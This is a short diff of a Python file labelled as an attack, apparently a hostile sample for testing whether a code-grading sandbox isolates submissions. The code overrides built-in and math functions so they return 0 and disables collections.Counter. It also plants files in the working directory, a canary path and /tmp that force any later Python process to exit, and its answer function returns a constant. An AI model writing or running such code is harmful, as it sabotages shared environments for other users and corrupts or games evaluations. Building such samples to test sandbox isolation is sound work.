@@ -1,6 +1,7 @@
 # attack: leaves things behind for whoever runs next
 # ruff: noqa
 import builtins, collections, math, os, random, sys
+
 builtins.sum = builtins.sorted = lambda *a, **k: 0
 math.sqrt = math.gcd = lambda *a: 0
 collections.Counter = None
@@ -14,5 +15,7 @@ for place in (".", "@canary@", "/tmp"):
                 file.write("import os; os._exit(0)")
         except OSError:
             pass
+
+
 def answer(n):
     return 0
